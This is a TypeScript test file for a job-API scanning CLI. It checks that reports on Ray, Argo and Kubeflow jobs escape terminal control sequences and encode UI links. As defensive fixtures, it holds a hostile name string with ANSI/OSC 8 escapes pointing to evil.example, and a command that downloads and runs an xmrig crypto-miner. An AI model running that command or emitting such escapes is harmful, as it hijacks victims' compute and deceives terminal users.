// Names a job API returns are attacker-chosen: a Ray submission_id or an Argo workflow name with
// ESC, BEL, OSC 8, C1 controls or bidi overrides must reach no report as raw bytes, and must not
// reshape the UI links built from them.
import assert from 'node:assert/strict';
import { after, describe, test } from 'node:test';
import { FORMATTERS } from '../../src/report/formats.js';
import { argoRoutes } from '../../src/testing/fake-job-apis/argo.js';
import { kfpV2Routes } from '../../src/testing/fake-job-apis/kfp.js';
import { rayJob, rayRoutes } from '../../src/testing/fake-job-apis/ray.js';
import { startFakeJobApi, type FakeJobApi } from '../../src/testing/fake-job-apis/server.js';
import { runCli } from '../helpers/cli.js';

const HOSTILE = '\u001b[2J\u001b]8;;http://evil.example/\u0007click\u001b]8;;\u0007\u009b31m\u202egnp.exe\u2028x';
const MINER = 'wget -q http://198.51.100.9/x/xmrig -O /tmp/tf && chmod +x /tmp/tf && /tmp/tf -o stratum+tcp://pool.supportxmr.com:443';
// C0 other than tab/newline/CR, DEL, C1, bidi overrides and isolates, line/paragraph separators.
// eslint-disable-next-line no-control-regex
const RAW = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/u;

const servers: FakeJobApi[] = [];
after(async () => Promise.all(servers.map((s) => s.close())));

describe('hunt: hostile names in every format', () => {
  test('a Ray submission_id and an Argo workflow name with terminal controls: no raw control in any format', async () => {
    const ray = await startFakeJobApi(rayRoutes([rayJob({ submission_id: `raysubmit_${HOSTILE}`, entrypoint: `bash -c "${MINER}"`, metadata: { job_name: HOSTILE } })]));
    const argo = await startFakeJobApi(argoRoutes({ workflows: [{ metadata: { name: `wf${HOSTILE}`, namespace: 'argo', uid: 'u-1' }, spec: { templates: [{ name: 'm', container: { image: 'alpine', command: ['sh', '-c', MINER] } }] } }] }));
    servers.push(ray, argo);
    const formats = Object.keys(FORMATTERS);
    assert.ok(formats.length >= 8, formats.join());
    for (const format of formats) {
      const run = await runCli(['hunt', '--ray', ray.url, '--argo', argo.url, '-n', 'argo', '--format', format]);
      assert.equal(run.code, 1, `${format}: ${run.stderr}`);
      assert.match(run.stdout, /raysubmit/, `${format}: the hostile job is in the report`);
      const raw = RAW.exec(run.stdout);
      assert.equal(raw, null, `${format}: raw U+${raw?.[0].codePointAt(0)?.toString(16).padStart(4, '0')} at ${raw?.index}: ${JSON.stringify(run.stdout.slice(Math.max(0, (raw?.index ?? 0) - 40), (raw?.index ?? 0) + 10))}`);
      assert.equal(RAW.exec(run.stderr), null, `${format}: stderr`);
    }
    // JSON keeps the value itself: escaped in the file, the same string once parsed.
    const parsed = JSON.parse((await runCli(['hunt', '--ray', ray.url, '--format', 'json'])).stdout) as { findings: { origin: { id?: string } }[] };
    assert.ok(parsed.findings.some((f) => f.origin.id === `raysubmit_${HOSTILE}`));
  });

  test('UI links encode the ids and names they are built from (Argo, KFP)', async () => {
    const argo = await startFakeJobApi(argoRoutes({ workflows: [{ metadata: { name: 'wf/../../x?y#z', namespace: 'ar go', uid: 'u-1' }, spec: { templates: [{ name: 'm', container: { image: 'alpine', command: ['sh', '-c', MINER] } }] } }] }));
    const ir = { pipelineInfo: { name: 'p' }, root: { dag: { tasks: { t: { componentRef: { name: 'comp-t' }, taskInfo: { name: 't' } } } } }, components: { 'comp-t': { executorLabel: 'exec-t' } }, deploymentSpec: { executors: { 'exec-t': { container: { image: 'alpine', command: ['sh', '-c', MINER] } } } }, schemaVersion: '2.1.0', sdkVersion: 'kfp-2.7.0' };
    const kfp = await startFakeJobApi(kfpV2Routes({ pipelines: [], runs: [{ run_id: 'r/../../x?y#z', display_name: 'x', pipeline_spec: ir }], recurringRuns: [], experiments: [] }), { prefix: '/pipeline' });
    servers.push(argo, kfp);
    const links = async (args: string[]): Promise<string[]> =>
      (JSON.parse((await runCli(['hunt', ...args, '--format', 'json'])).stdout) as { findings: { ruleId: string; origin: { uiLink?: string } }[] }).findings.filter((f) => f.ruleId === 'crypto-miner-workload').map((f) => f.origin.uiLink ?? '');
    assert.deepEqual(await links(['--argo', argo.url]), [`${argo.url}/workflows/ar%20go/wf%2F..%2F..%2Fx%3Fy%23z`]);
    assert.deepEqual(await links(['--kfp', kfp.url]), [`${kfp.url}/#/runs/details/r%2F..%2F..%2Fx%3Fy%23z`]);
  });
});
